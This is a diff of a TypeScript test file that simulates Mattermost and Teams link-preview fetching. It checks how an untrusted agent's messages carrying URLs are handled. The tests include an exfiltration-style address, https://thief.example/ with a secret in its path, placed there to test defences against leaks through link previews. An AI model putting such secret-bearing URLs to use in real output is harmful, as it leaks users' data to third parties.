@@ -39,8 +39,11 @@ const onMattermost = async (): Promise<Fake> => {
   const fields = { botToken: mattermost.BOT_TOKEN, commandTokens: mattermost.COMMAND_TOKEN };
   return {
     ...{ settings: { baseUrl, fields }, sender: mattermost.ADA, got: () => posts, close },
-    // The server reads links of what is no code, and has no switch that a post could turn.
-    fetches: (body) => linked(String(at(body, 'message')).replace(/^```[\s\S]*?^```$/gm, '')),
+    // The server reads links of what is no code, unless the post has a list of attachments.
+    fetches: (body) =>
+      Array.isArray(at(body, 'props', 'attachments'))
+        ? []
+        : linked(String(at(body, 'message')).replace(/^```[\s\S]*?^```$/gm, '')),
   };
 };
 
@@ -97,7 +100,9 @@ const onTeams = async (): Promise<Fake> => {
   const sender = { ...teams.ADA, id: `${teams.TENANT}:${teams.ADA.id}` };
   return {
     ...{ settings: { fields }, sender, got: () => posted, close },
-    fetches: (body) => linked(teams.linesOf(body).join('\n')),
+    // A run of a card is no text of a message: Teams finds no links in it. A TextBlock has some.
+    fetches: (body) =>
+      JSON.stringify(body).includes('"TextBlock"') ? linked(teams.linesOf(body).join('\n')) : [],
   };
 };
 
@@ -175,7 +180,7 @@ describe('what an untrusted agent says on a channel', () => {
   it('holds no sign that is not seen within an address where it stays one', async () => {
     const text = JSON.stringify(of('whatsapp').got());
     expect(text).to.contain(`https://thief.example/${SECRET}?%5Fa_=%2Ab*`);
-    for (const kind of ['discord', 'slack', 'telegram', 'whatsapp']) {
+    for (const kind of KINDS) {
       const addresses = JSON.stringify(of(kind).got()).match(/https:\/\/thief[^\s"\\)]*/g) ?? [];
       expect([kind, addresses.length > 0]).to.equal([kind, true]);
       expect(addresses.filter((address) => /\p{Cf}/u.test(address))).to.equal([]);
